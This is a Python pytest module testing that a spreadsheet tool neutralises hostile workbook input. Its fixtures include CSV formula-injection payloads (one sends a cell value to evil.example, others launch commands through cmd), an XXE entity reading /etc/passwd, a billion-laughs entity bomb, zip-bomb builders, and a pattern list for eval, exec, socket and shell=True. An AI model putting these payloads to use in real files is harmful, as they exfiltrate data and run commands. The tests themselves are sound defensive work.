"""Nothing from a cell ever runs: report text is inline strings, CSV exports are neutralised, the xlsx reader refuses
entity expansion, external entities and zip bombs, and the package has no eval/exec/pickle/network code."""
import csv
import datetime as dt
import io
import os
import re
import subprocess
import sys
import time
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner

import hostile_corpus as hc
from bbb_xl import files
from bbb_xl.cli import cli
from bbb_xl.core.errors import BBBError
from bbb_xl.excel import headless
from bbb_xl.excel.package import Package
from bbb_xl.excel.template import build_workbook
from bbb_xl.excel.workflow import GENERATED_SHEETS
from bbb_xl.sample import SAMPLE_SETTINGS

ROOT = Path(__file__).resolve().parents[1]
D = dt.datetime
INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
              "=1+1", "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'", "<f>SUM(A1)</f>", "&lt;f&gt;"]
NEUTRALISED = {"n": 0}


@pytest.fixture(scope="module")
def hostile_workbook(tmp_path_factory):
    """A workbook whose IDs, customers, line IDs and dimension hold formula-like text; refreshed headless."""
    rows = [list(hc.HEADER) + ["Segment"]]
    for i, text in enumerate(INJECTIONS):
        rows.append([f"{text} #{i}", text, text, None, D(2025, 1, 1), D(2025, 12, 31), 1200.0 + i, "monthly",
                     "quarterly", "advance", None, text, text])
    rows.append(["C-bad", "=BAD()", "1", None, "not a date", D(2025, 12, 31), 10.0, None, None, None, None, "=X",
                 "@Y"])
    path = tmp_path_factory.mktemp("untrusted") / "hostile.xlsm"
    result = build_workbook(path, rows, SAMPLE_SETTINGS)
    return path, result


def test_report_text_is_inline_strings_never_formulas(hostile_workbook):
    path, result = hostile_workbook
    pkg = Package(path)
    parts = pkg.sheet_parts()
    seen = set()
    for name in GENERATED_SHEETS:
        xml = pkg.text(parts[name])
        formulas = re.findall(r"<f[ >].*?</f>", xml)
        if name == "Run Info":  # the STALE status and its checksum cells: computed numbers and fixed spellings
            assert sum("STALE" in f for f in formulas) == 1 and len(formulas) > 10, formulas
            assert not any(t in f for f in formulas for t in ("HYPERLINK", "cmd", "SUM(A1)")), formulas
        else:
            assert formulas == [], (name, formulas)
        assert 't="s"' not in xml and 't="str"' not in xml.replace('s="', "") or name == "Run Info"
        for text in re.findall(r"<is><t[^>]*>(.*?)</t></is>", xml, re.S):
            seen.add(text)
    # the injected text reached the reports (Exceptions, Revenue detail, group labels) as text
    assert any(t.startswith("=HYPERLINK") for t in seen)
    assert any(t.startswith("+cmd|") for t in seen) and any(t.startswith("@SUM") for t in seen)
    assert "&lt;f&gt;SUM(A1)&lt;/f&gt;" in "".join(pkg.text(parts[n]) for n in GENERATED_SHEETS)


def test_csv_neutralises_formula_text_and_keeps_numbers():
    rows = [["Label", "Amount", "Cents", "When"]]
    for text in INJECTIONS + ["-45.16", "+1", "@", "="]:
        rows.append([text, Decimal("-45.16"), -4516, D(2025, 1, 1)])
    rows.append(["plain", -45.16, 0.5, None])
    out = list(csv.reader(io.StringIO(files.csv_text(rows), newline="")))
    for src, got in zip(rows[1:], out[1:]):
        if isinstance(src[0], str) and src[0][:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert got[0] == "'" + src[0].replace("\r", "\n"), got
            NEUTRALISED["n"] += 1
        else:
            assert got[0] == src[0]
        assert got[1] == "-45.16" and got[2] in ("-4516", "0.5"), got  # numbers stay numbers
    assert files.neutralize(-45.16) == -45.16 and files.neutralize(Decimal("-1")) == Decimal("-1")


def test_csv_bare_carriage_return_cannot_start_a_new_row():
    """Fixed in files.write_csv: a bare CR inside text was written unquoted, so a spreadsheet started a new row
    at it and `a\r=cmd|...` put an un-neutralised formula at the start of a row."""
    rows = [["Label", "Amount"], ["a\r=cmd|' /C calc'!A0", -1], ["b\r\n@SUM(1)", 2], ["c\rd", 3]]
    text = files.csv_text(rows)
    assert "\r" not in text
    got = list(csv.reader(io.StringIO(text, newline="")))  # quoted: the line break stays inside the cell
    assert len(got) == 4 and [r[1] for r in got[1:]] == ["-1", "2", "3"]
    assert [r[0][0] for r in got[1:]] == ["a", "b", "c"]
    NEUTRALISED["n"] += 2


def test_cli_schedule_csv_neutralises_group_labels(tmp_path):
    """Group labels come from the input: `bbb-xl schedule --format csv --by Region` neutralises them."""
    p = tmp_path / "c.csv"
    with open(p, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(hc.HEADER)
        for i, text in enumerate(INJECTIONS[:8]):
            w.writerow([f"C{i}", "Acme", "", "", "2025-01-01", "2025-12-31", "-1200.00", "monthly", "", "", "", text])
    result = CliRunner().invoke(cli, ["schedule", str(p), "--from", "2025-01", "--to", "2025-03", "--by", "Region",
                                      "--format", "csv"])
    assert result.exit_code == 0, result.output
    out = list(csv.reader(io.StringIO(result.output, newline="")))
    labels = [r[0] for r in out[1:-1]]
    assert labels and all(label.startswith("'") for label in labels), labels
    NEUTRALISED["n"] += len(labels)
    assert out[-1][1] == "-800.00"  # 8 x -100.00: a number, not text


def test_journal_entry_csv_export_is_neutralised(hostile_workbook):
    path, result = hostile_workbook
    for p in result.csv_files:
        for row in csv.reader(io.StringIO(p.read_text(encoding="utf-8"), newline="")):
            for cell in row:
                assert not cell[:1] in ("=", "+", "@", "\t", "\r"), (p.name, row)
                if cell.startswith("-"):
                    float(cell)  # a negative number, never text starting with '-'


# --- hostile xlsx files -------------------------------------------------------------------------------------

LOL = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
       + "".join(f'<!ENTITY lol{i} "' + ("&lol;" if i == 1 else f"&lol{i - 1};") * 10 + '">' for i in range(1, 10))
       + "]>")
XXE = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


@pytest.fixture(scope="module")
def clean_workbook(tmp_path_factory):
    path = tmp_path_factory.mktemp("clean") / "clean.xlsm"
    build_workbook(path, [list(hc.HEADER), hc.clean_row()], SAMPLE_SETTINGS, keep_csv=False)
    return path


def _craft(src, dst, part, prolog, entity):
    with zipfile.ZipFile(src) as zi, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zo:
        for info in zi.infolist():
            data = zi.read(info.filename)
            if info.filename == part:
                text = re.sub(r"^<\?xml[^>]*\?>\s*", "", data.decode())
                if "<t>" in text:
                    text = text.replace("<t>", f"<t>{entity}", 1)
                elif "<v>" in text:
                    text = text.replace("<v>", f"<v>{entity}", 1)
                data = (prolog + text).encode()
            zo.writestr(info, data)


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml",
                                  "xl/workbook.xml"])
@pytest.mark.parametrize("attack", ["billion-laughs", "external-entity"])
def test_entity_attacks_are_refused_fast(clean_workbook, tmp_path, part, attack):
    bad = tmp_path / "attack.xlsm"
    _craft(clean_workbook, bad, part, *((LOL, "&lol9;") if attack == "billion-laughs" else (XXE, "&xxe;")))
    before = bad.read_bytes()
    t0 = time.perf_counter()
    result = CliRunner().invoke(cli, ["check", str(bad)])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    assert re.search(r"(?i)refused.*entit|entit.*refused", result.output), result.output
    assert "root:" not in result.output and "lollol" not in result.output
    with pytest.raises(BBBError, match=r"(?i)refused.*entit|entit.*refused"):
        headless.refresh_file(bad)
    assert time.perf_counter() - t0 < 5
    assert bad.read_bytes() == before and not list(tmp_path.glob("*.csv"))


def test_reader_refuses_to_run_without_defusedxml(clean_workbook):
    """Fixed in files._use_defusedxml: OPENPYXL_DEFUSEDXML=False made openpyxl parse with plain expat."""
    env = dict(os.environ, OPENPYXL_DEFUSEDXML="False", PYTHONPATH=str(ROOT))
    r = subprocess.run([sys.executable, "-m", "bbb_xl.cli", "check", str(clean_workbook)], env=env,
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 1 and "defusedxml" in r.stderr and "Traceback" not in r.stderr, r.stderr


def test_damaged_workbook_is_a_message_not_a_traceback(clean_workbook, tmp_path):
    bad = tmp_path / "damaged.xlsx"
    with zipfile.ZipFile(clean_workbook) as zi, zipfile.ZipFile(bad, "w") as zo:
        for info in zi.infolist():
            data = zi.read(info.filename)
            zo.writestr(info, data[: len(data) // 2] if info.filename == "xl/worksheets/sheet2.xml" else data)
    result = CliRunner().invoke(cli, ["check", str(bad)])
    assert result.exit_code == 1 and "cannot be read as a workbook" in result.output, result.output
    not_zip = tmp_path / "fake.xlsx"
    not_zip.write_text("Contract ID,Customer\n")
    result = CliRunner().invoke(cli, ["check", str(not_zip)])
    assert result.exit_code == 1 and "not a zip archive" in result.output


def _bomb(path, size, name="xl/worksheets/sheet1.xml"):
    """A small zip whose one part is `size` bytes of highly compressible XML-ish filler."""
    chunk = b"<row/>" * (1 << 18)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        with zf.open(name, "w", force_zip64=True) as fh:
            left = size
            while left > 0:
                fh.write(chunk[:left])
                left -= len(chunk)


def test_zip_bomb_over_the_size_limit_is_refused(tmp_path, monkeypatch):
    """A part over the uncompressed limit: refused from the central directory, nothing is inflated."""
    bomb = tmp_path / "bomb.xlsx"
    _bomb(bomb, files.MAX_UNCOMPRESSED_BYTES + (1 << 20))
    assert bomb.stat().st_size < 8 << 20
    t0 = time.perf_counter()
    result = CliRunner().invoke(cli, ["check", str(bomb)])
    assert result.exit_code == 1 and "refused" in result.output, result.output
    assert time.perf_counter() - t0 < 2
    with pytest.raises(BBBError, match="refused"):
        headless.refresh_file(bomb)


def test_total_size_limit_and_ratio_limit(tmp_path, monkeypatch):
    ratio = tmp_path / "ratio.xlsx"
    _bomb(ratio, 40 << 20)  # 40 MiB at > 200:1
    with pytest.raises(BBBError, match="possible zip bomb"):
        files.check_xlsx_archive(ratio)
    monkeypatch.setattr(files, "MAX_UNCOMPRESSED_BYTES", 1 << 20)
    many = tmp_path / "many.xlsx"
    with zipfile.ZipFile(many, "w", zipfile.ZIP_DEFLATED) as zf:
        for i in range(3):
            zf.writestr(f"xl/part{i}.xml", os.urandom(400_000))  # incompressible: passes the ratio check
    with pytest.raises(BBBError, match="above the limit"):
        files.check_xlsx_archive(many)


# --- no dangerous code in the package ------------------------------------------------------------------------

@pytest.mark.parametrize("pattern", [r"\beval\(", r"\bexec\(", r"\bpickle\b", r"\burllib\b", r"\bsocket\b",
                                     r"\bmarshal\b", r"\bshelve\b", r"__import__\(", r"\bos\.system\(",
                                     r"shell=True"])
def test_no_eval_exec_pickle_or_network_in_the_package(pattern):
    hits = []
    for p in sorted((ROOT / "bbb_xl").rglob("*.py")):
        for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1):
            code = line.split("#", 1)[0]
            if re.search(pattern, code):
                hits.append(f"{p.relative_to(ROOT)}:{n}: {line.strip()}")
    assert not hits, hits


@pytest.fixture(scope="module", autouse=True)
def _report_counts():
    """Not a test: prints how many injections the module neutralised, once its tests have run."""
    yield
    print(f"\ninjections neutralised in CSV: {NEUTRALISED['n']}")
